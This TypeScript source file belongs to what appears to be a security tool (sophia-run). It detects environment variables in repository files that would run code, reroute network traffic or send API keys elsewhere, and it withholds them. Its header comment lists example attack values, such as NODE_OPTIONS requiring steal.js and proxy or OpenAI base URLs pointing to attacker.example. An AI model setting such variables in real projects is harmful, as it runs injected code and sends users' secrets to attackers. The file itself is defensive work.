/**
 * Finds the variables by which a file of a repository would run code, or would have the user's secrets sent elsewhere:
 *
 *     NODE_OPTIONS=--require=./steal.js       runs-code
 *     HTTPS_PROXY=http://attacker.example     network
 *     OPENAI_BASE_URL=http://attacker.example redirects-key
 *
 * The code is pure. `marks-of-files.ts` loads it only if a name in a file suggests such a variable. docs/threat-model.md has
 * the rules for users.
 */
import { declarationOf } from "../contract/check-contract.ts";
import { looksSecret } from "../contract/looks-secret.ts";
import type { Contract } from "../contract/contract-model.ts";
import { runsCode } from "../trust/code-values.ts";
import { isHarmlessAddress, isKeyAddress, keysSentTo, prefixByForm, prefixesOfKey } from "../trust/key-addresses.ts";
import type { Layer, Origin, Variable } from "../core/model.ts";
import { decidesNetwork, mayDecideNetwork } from "../trust/network-variables.ts";
import { FROM_FILES, isTrustedOrigin } from "../esc/settings/from-files.ts";
import { ADMIN_TOKEN, WITHHELD_VARIABLES } from "../esc/settings/own-variables.ts";

/** The facts that decide how far a file is trusted. */
export interface TrustContext {
  /** Returns true for a file that was found by search. The user has named the others. */
  readonly isFound: (file: string) => boolean;
  /** True if the user has named the contract (`--contract`). */
  readonly isContractNamed: boolean;
  readonly contract: Contract;
  /** Returns true for a variable that the caller lets files set (`--allow`). */
  readonly isAllowed: (name: string) => boolean;
  readonly isDeclared: (name: string) => boolean;
  readonly keepEsc: boolean;
}

/** The harm that a variable of a file would do without the caller's consent. */
export type Risk =
  /** It makes other programs run code. */
  | "runs-code"
  /** It decides through which proxy programs connect, or which certificates they trust. */
  | "network"
  /** It sends a key of another source elsewhere. */
  | "redirects-key";

export interface Risks {
  /** The variables that the program does not get, with the origins of the values that are a risk. */
  readonly byName: ReadonlyMap<string, ReadonlyMap<Origin, Risk>>;
  /** The variables that the program gets, and that a nested sophia-run must not take for the caller's. */
  readonly marked: readonly string[];
}

/**
 * Secrets that no risky variable can send elsewhere. Neither sophia-run's mark nor its own token is passed on to be sent. HTTP
 * clients do not reach the user's agent for SSH.
 */
const NEVER_SENT: ReadonlySet<string> = new Set([FROM_FILES, ADMIN_TOKEN, "SSH_AUTH_SOCK"]);

/**
 * Finds the variables by which files would do harm, and those that need the mark for a nested sophia-run.
 *
 * @param layers the highest precedence is first; variables have the contract's names in place of aliases
 */
export function assessRisks(layers: readonly Layer[], context: TrustContext): Risks {
  const variables = layers.flatMap((layer) => layer.variables);
  const assessment = new RiskAssessment(variables, context);
  for (const variable of variables) assessment.assess(variable);
  return assessment.result();
}

/** The origin of a risky variable, and whether its name there is trusted to mean what it says. */
interface RiskyOrigin {
  readonly origin: Origin;
  /** False if a contract that was found gives the variable of a source another meaning by an alias. */
  readonly isNameTrusted: boolean;
}

/** Collects the risks of all variables: call `assess` for each, then `result` once. */
class RiskAssessment {
  readonly #byName = new Map<string, Map<Origin, Risk>>();
  readonly #marked = new Set<string>();
  readonly #context: TrustContext;
  /** For each name the variable of the highest layer that sets it to a value which is not empty. */
  readonly #winners = new Map<string, Variable>();
  readonly #secrets = once(() =>
    [...this.#winners.values()].filter((variable) => isSentSecret(variable, this.#context)),
  );
  /** One secret of each source is enough: a proxy has many spellings, and a file may set all of them beside many secrets. */
  readonly #secretOfEachSource = once(() => [
    ...new Map(this.#secrets().map((secret) => [sourceKey(secret.origin), secret])).values(),
  ]);
  readonly #keysByPrefix = once(() => groupByPrefix([...this.#winners.keys()]));
  #passesNetworkVariable = false;

  constructor(variables: readonly Variable[], context: TrustContext) {
    this.#context = context;
    for (const variable of variables) {
      if (variable.value !== "" && !this.#winners.has(variable.name)) this.#winners.set(variable.name, variable);
    }
  }

  result(): Risks {
    // All of these secrets have the same source as the proxy or certificate that is passed on with them.
    if (this.#passesNetworkVariable) for (const { name } of this.#secrets()) this.#marked.add(name);
    return { byName: this.#byName, marked: [...this.#marked] };
  }

  assess(variable: Variable): void {
    const { name, value, origin, delivery } = variable;
    const { isContractNamed, isDeclared } = this.#context;
    if (isTrustedOrigin(origin)) return;
    // The program gets the path of a private file, which is never one of the harmless values.
    const passedValue = delivery === "file" ? "./file" : value;
    if (isOfFoundFile(origin, this.#context) && runsCode(name, passedValue)) {
      if (!isDeclared(name)) this.#withhold(variable, "runs-code");
      return;
    }
    // A contract that was found may use as an address only another name of the same address.
    const isNameTrusted = isContractNamed || origin.alias === undefined || isSameAddress(name, origin.alias);
    if (isTrusted(origin, this.#context, isNameTrusted)) return;
    const risky = { origin, isNameTrusted };
    if (mayDecideNetwork(name)) {
      if (decidesNetwork(name, passedValue)) this.#assessNetworkVariable(variable, risky);
    } else if (isKeyAddress(name)) {
      this.#assessKeyAddress(variable, risky);
    } else {
      this.#assessAddressByForm(variable, risky);
    }
  }

  /** A proxy or a certificate of a file is passed on only together with secrets of that file, and with no other secret. */
  #assessNetworkVariable(variable: Variable, risky: RiskyOrigin): void {
    const endangered = this.#secretOfEachSource();
    if (endangered.length === 0 || endangered.some((secret) => !isOneSource(secret.origin, risky))) {
      this.#withhold(variable, "network");
    } else if (!this.#context.isAllowed(variable.name)) {
      this.#marked.add(variable.name);
      this.#passesNetworkVariable = true;
    }
  }

  /** The address of a service in the tables (`OPENAI_BASE_URL`) is passed on only together with the keys of its file. */
  #assessKeyAddress(variable: Variable, risky: RiskyOrigin): void {
    const { name, value } = variable;
    const keyNames = keysSentTo(name);
    this.#mark(name, keyNames);
    if (isHarmlessAddress(name, value)) return;
    const keys = keyNames.flatMap((keyName) => this.#winners.get(keyName) ?? []);
    // If no variable has the key, the client may have one in a file of its own.
    if (keys.length === 0 || keys.some((key) => !isOneSource(key.origin, risky))) {
      this.#withhold(variable, "redirects-key");
    }
  }

  /** `ACME_BASE_URL` has the form of an address to which a client may send `ACME_KEY`. A declared one is passed on. */
  #assessAddressByForm(variable: Variable, risky: RiskyOrigin): void {
    const { name, value } = variable;
    const prefix = prefixByForm(name, value);
    if (prefix === undefined) return;
    const keyNames = this.#keysByPrefix().get(prefix) ?? [];
    this.#mark(name, keyNames);
    if (this.#context.isDeclared(name)) return;
    const keys = keyNames.flatMap((keyName) => this.#winners.get(keyName) ?? []);
    if (keys.some((key) => !isOneSource(key.origin, risky))) this.#withhold(variable, "redirects-key");
  }

  #withhold({ name, origin }: Variable, risk: Risk): void {
    this.#byName.set(name, (this.#byName.get(name) ?? new Map<Origin, Risk>()).set(origin, risk));
  }

  #mark(address: string, keyNames: readonly string[]): void {
    if (this.#context.isAllowed(address)) return;
    this.#marked.add(address);
    for (const name of keyNames) this.#marked.add(name);
  }
}

/** Returns a text that is the same for all origins of secrets between which `isOneSource` makes no difference. */
function sourceKey(origin: Origin): string {
  const isOfFile = origin.source === "environment" && origin.fromFile === true;
  return `${origin.source} ${isOfFile} ${"file" in origin ? origin.file : ""}`;
}

/** Returns a function that computes the value when it is first called, and then returns the same value. */
function once<Value>(compute: () => Value): () => Value {
  let computed: { readonly value: Value } | undefined;
  return () => (computed ??= { value: compute() }).value;
}

/**
 * Groups the names of keys by the addresses to which clients may send them: `A_B_KEY` is in the groups `A` and `A_B`. The
 * function `grouped` is not used, because it is in another file of the bundle: a start with such a name would load both.
 */
function groupByPrefix(names: readonly string[]): ReadonlyMap<string, readonly string[]> {
  const namesByPrefix = new Map<string, string[]>();
  for (const name of names) {
    for (const prefix of prefixesOfKey(name)) {
      const group = namesByPrefix.get(prefix);
      if (group === undefined) namesByPrefix.set(prefix, [name]);
      else group.push(name);
    }
  }
  return namesByPrefix;
}

/** Returns true for a secret that the program may send. ESC or the contract makes a secret; otherwise the name and value do. */
function isSentSecret({ name, value, secret, origin }: Variable, { contract, keepEsc }: TrustContext): boolean {
  const isWithheld = !keepEsc && WITHHELD_VARIABLES.includes(name);
  if (NEVER_SENT.has(name) || mayDecideNetwork(name) || isWithheld) return false;
  const isSecretOfEsc = origin.source === "esc" && secret;
  return isSecretOfEsc || (declarationOf(contract, name)?.secret ?? looksSecret(name, value));
}

/** Returns true if a file that was found sets the variable, or has the credential that opened the ESC environment with it. */
function isOfFoundFile(origin: Origin, { isFound }: TrustContext): boolean {
  return origin.source === "esc" ? origin.openedBy !== undefined : "file" in origin && isFound(origin.file);
}

/** Returns true if clients send the same keys to the addresses in both variables. */
function isSameAddress(name: string, alias: string): boolean {
  return isKeyAddress(alias) && keysSentTo(alias).join() === keysSentTo(name).join();
}

/** Returns true if the user or the caller has chosen the source, and the name there means what it says. */
function isTrusted(origin: Origin, { isFound, isContractNamed }: TrustContext, isNameTrusted: boolean): boolean {
  switch (origin.source) {
    case "secrets":
      return isNameTrusted;
    case "override":
    case "dotenv":
      return isNameTrusted && !isFound(origin.file);
    case "contract":
      return isContractNamed;
    case "environment":
      return isNameTrusted && origin.fromFile !== true;
    case "esc":
      return isNameTrusted && origin.openedBy === undefined;
    case "fake":
      return isNameTrusted;
  }
}

/**
 * Returns true if those who wrote the risky variable also know the key: both are in one file, both are in ESC that a file's
 * credential opened, or that credential is in the file with the key.
 *
 * A key in ESC and an address in the file are two sources, because a file that only names the user's token does not know what
 * that token opens. An outer sophia-run has already compared the origins of the variables that it marked.
 */
function isOneSource(key: Origin, { origin: risky, isNameTrusted }: RiskyOrigin): boolean {
  if (key.source === "environment" && risky.source === "environment") {
    return key.fromFile === true && risky.fromFile === true;
  }
  if (risky.source === "esc" && risky.openedBy !== undefined) {
    return key.source === "esc" ? isNameTrusted : "file" in key && key.file === risky.openedBy;
  }
  return "file" in key && "file" in risky && key.file === risky.file;
}
